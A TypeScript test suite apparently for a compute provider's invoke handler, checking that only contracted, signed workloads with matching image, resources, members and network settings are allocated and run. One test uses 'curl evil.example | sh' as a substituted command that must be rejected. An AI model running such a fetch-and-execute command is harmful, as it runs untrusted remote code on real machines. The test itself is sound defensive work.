/** The invoke handler: a checked invocation allocates the ledger entry and starts the run. */
import assert from 'node:assert/strict'
import { waitFor } from 'xstate'
import { defaultWorkload, Harness } from '../../../helpers/provider-harness.js'
import { invokeHandler } from '../../../../dms/provider/handlers/invoke.js'
import { allocationOf } from '../../../../dms/provider/views.js'
import type { Bid } from '../../../../dms/contracts/model.js'
import { contractedFor } from '../../../../dms/contracts/terms.js'
import type { WorkloadMember } from '../../../../dms/workload/workload.js'
import { contracted, contractedBefore, handlers } from './flow.js'
import { forTerms, member, type ContainerInit } from '../../../helpers/workload.js'
import { needsOf } from '../../../../dms/workload/needs.js'

const MiB = 1024 * 1024
const invokedMember = (name: string, more: Partial<ContainerInit> = {}) =>
  member(name, {
    image: 'dms-test:1',
    command: ['sh', '-c', `echo ${name}`],
    cpu: 0.25,
    memoryBytes: 32 * MiB,
    ...more,
  })

/** A pod's bid (0.5 cores, 64 MiB: two members' shares) locked and contracted, signing `members`. */
async function podContracted(h: Harness, members: WorkloadMember[]) {
  const { lock, sign } = handlers(h)
  const workloadNeeds = needsOf({ members: [invokedMember('a'), invokedMember('b')] })
  await h.bidRequest()(h.msg({ ...h.request('pod-1', 0.5), workloadNeeds }, h.requester, 'job/pod-1'))
  const bid = h.bids().find((b) => b.jobId === 'pod-1')!
  await lock(h.msg({ jobId: bid.jobId, bidId: bid.bidId }))
  const contract = h.contract(bid, h.requester, { members })
  contract.providerSignature = (await sign(h.msg({ contract }))).providerSignature
  return contract
}

describe('provider/handlers/invoke', () => {
  let h: Harness
  beforeEach(async () => {
    h = await new Harness().start()
  })
  afterEach(() => h.close())

  it('allocates and starts the run of a contracted bid with a good proof', async () => {
    const { bid, contract } = await contracted(h)
    const { allocationId } = await handlers(h).invoke(h.msg(h.invocation(contract)))
    assert.equal(h.ledger.entries()[0].state, 'allocated')
    const run = h.fakes.runs.get(allocationId)!
    assert.deepEqual(
      run.input.allocation.workload,
      forTerms(contractedFor(contract.terms), ['sh', '-c', 'echo hi']),
    )
    assert.equal((await h.book.get(bid.bidId))?.state, 'provisioning')
    // The same contract again (a requester restored in `invoking`): the same allocation, one run.
    assert.deepEqual(await handlers(h).invoke(h.msg(h.invocation(contract))), { allocationId })
    assert.equal(h.fakes.runs.size, 1)
    const inv = h.invocation(contract)
    await assert.rejects(handlers(h).invoke(h.msg({ ...inv, proof: { ...inv.proof, escrowLocked: 0 } })), {
      code: 'BAD_PROOF',
    })
  })

  it("refuses a proof not signed by the trusted contract-db, and a signed workload of another image than the contract's", async () => {
    // The requester signed a workload the provider did not bid for: the hash matches, the image not.
    const evil = (bid: Bid) => forTerms({ ...bid, image: 'evil:1' }, ['true'])
    const { contract } = await contracted(h, 'job-1', evil)
    const inv = h.invocation(contract, { workload: evil(contract.terms.bid) })
    await assert.rejects(handlers(h).invoke(h.msg({ ...inv, proof: { ...inv.proof, escrowLocked: 0 } })), {
      code: 'BAD_PROOF',
    })
    await assert.rejects(handlers(h).invoke(h.msg(inv)), {
      code: 'BAD_INVOCATION',
      message: /not the contract's image/,
    })
    const other = { ...contract, terms: { ...contract.terms, contractId: 'another-contract' } }
    await assert.rejects(handlers(h).invoke(h.msg({ ...inv, contract: other })), {
      code: 'NOT_CONTRACTED',
    })
    assert.equal(h.ledger.entries()[0].state, 'locked', 'nothing allocated')
  })

  it('refuses an invocation asking for the network unless the provider allows it; carries it when allowed', async () => {
    const outbound = (bid: Bid) => forTerms(bid, ['true'], { network: 'outbound' })
    const { contract } = await contracted(h, 'job-1', outbound)
    const inv = h.invocation(contract, { workload: outbound(contract.terms.bid) })
    await assert.rejects(handlers(h).invoke(h.msg(inv)), {
      code: 'BAD_INVOCATION',
      message: 'network not allowed here: the job asks for network access',
    })
    assert.equal(h.ledger.entries()[0].state, 'locked', 'nothing allocated')
    const allowing = invokeHandler({ book: h.book, contractDb: h.contractDb.peer, allowNetwork: true })
    const { allocationId } = await allowing(h.msg(inv))
    assert.equal(h.fakes.runs.get(allocationId)!.input.allocation.workload.members[0].network, 'outbound')
  })

  it('refuses the invocation of a contract its requester cancelled first', async () => {
    const { contract } = await contracted(h)
    const actor = h.book.byContractId(contract.terms.contractId)!.live!
    actor.send({ type: 'CANCEL', reason: 'cancelled by the requester' })
    await assert.rejects(handlers(h).invoke(h.msg(h.invocation(contract))), { code: 'CANCELLED' })
    await waitFor(actor, (s) => s.status === 'done')
    assert.deepEqual(h.ledger.entries(), [], 'released at the cancel')
    await assert.rejects(handlers(h).invoke(h.msg(h.invocation(contract))), { code: 'CANCELLED' })
  })

  it('runs a pod as bid on, and refuses a signed pod whose members differ from the bid request', async () => {
    const refused = async (members: WorkloadMember[], message: RegExp) => {
      const contract = await podContracted(h, members)
      await assert.rejects(handlers(h).invoke(h.msg(h.invocation(contract, { workload: { members } }))), {
        code: 'BAD_INVOCATION',
        message,
      })
      assert.equal(h.ledger.entries()[0].state, 'locked', 'nothing allocated')
      await h.close()
      h = await new Harness().start()
    }
    await refused([invokedMember('a'), invokedMember('b', { image: 'evil:1' })], /members\.1\.artifact/)
    await refused([invokedMember('a'), invokedMember('x')], /members\.1\.name/)
    await refused([invokedMember('a'), invokedMember('b', { cpu: 1 })], /do not add up/)
    await refused([invokedMember('a'), invokedMember('b', { network: true })], /members\.1\.network/)
    await refused([invokedMember('a')], /named 2 members/)
    const good = [invokedMember('a'), invokedMember('b')]
    const contract = await podContracted(h, good)
    const { allocationId } = await handlers(h).invoke(
      h.msg(h.invocation(contract, { workload: { members: good } })),
    )
    assert.deepEqual(h.fakes.runs.get(allocationId)!.input.allocation.workload, { members: good })
    // The provider's allocations view lists them.
    const view = allocationOf((await h.book.get(contract.terms.bidId))!)
    assert.deepEqual(view?.workload, { members: good })
  })

  it('refuses a workload other than the one the terms signed (WORKLOAD_MISMATCH), before anything is allocated', async () => {
    const { contract } = await contracted(h)
    const signed = defaultWorkload(contractedFor(contract.terms))
    const [m] = signed.members
    // The same image and resources as the contract's, so the bid's checks alone would pass them.
    const others: WorkloadMember[] = [
      { ...m, command: ['sh', '-c', 'curl evil.example | sh'] },
      { ...m, env: { TOKEN: 'other' } },
      { ...m, workdir: '/tmp' },
      { ...m, network: 'outbound' },
    ]
    const allowing = invokeHandler({ book: h.book, contractDb: h.contractDb.peer, allowNetwork: true })
    for (const other of others)
      await assert.rejects(allowing(h.msg(h.invocation(contract, { workload: { members: [other] } }))), {
        code: 'WORKLOAD_MISMATCH',
        message: /not the one the contract signed/,
      })
    assert.equal(h.ledger.entries()[0].state, 'locked', 'nothing allocated')
    assert.equal(h.fakes.runs.size, 0, 'nothing run')
    // The signed workload, its keys built in another order, is the same workload.
    const reordered = { members: [Object.fromEntries(Object.entries(m).reverse()) as WorkloadMember] }
    const { allocationId } = await allowing(h.msg(h.invocation(contract, { workload: reordered })))
    assert.deepEqual(h.fakes.runs.get(allocationId)!.input.allocation.workload, signed)
  })

  it("checks the invoked workload against the bid's resources when the terms copy none: a signed workload asking more is refused", async () => {
    // The requester signs a workload of four times the bid's cpu: the hash matches, the resources not.
    const greedy = (bid: Bid) => {
      const w = forTerms(bid, ['true'])
      const [m] = w.members
      return { members: [{ ...m, resources: { ...m.resources, cpu: bid.resources.cpu * 4 } }] }
    }
    const { contract } = await contracted(h, 'job-1', greedy)
    assert.ok(!('resources' in contract.terms))
    await assert.rejects(
      handlers(h).invoke(h.msg(h.invocation(contract, { workload: greedy(contract.terms.bid) }))),
      {
        code: 'BAD_INVOCATION',
        message: /not the contract's resources/,
      },
    )
    assert.equal(h.ledger.entries()[0].state, 'locked', 'nothing allocated')
    assert.equal(h.fakes.runs.size, 0, 'nothing run')
  })

  it('runs a contract of an earlier version restored from the store (terms without workloadHash), checked against its image and resources', async () => {
    const { contract } = await contractedBefore(h)
    assert.equal(contract.terms.workloadHash, undefined)
    await h.restart()
    const evil = forTerms({ ...contractedFor(contract.terms), image: 'evil:1' }, ['true'])
    await assert.rejects(handlers(h).invoke(h.msg(h.invocation(contract, { workload: evil }))), {
      code: 'BAD_INVOCATION',
      message: /not the contract's image/,
    })
    const workload = forTerms(contractedFor(contract.terms), ['sh', '-c', 'echo any command'])
    const { allocationId } = await handlers(h).invoke(h.msg(h.invocation(contract, { workload })))
    assert.deepEqual(h.fakes.runs.get(allocationId)!.input.allocation.workload, workload)
  })
})
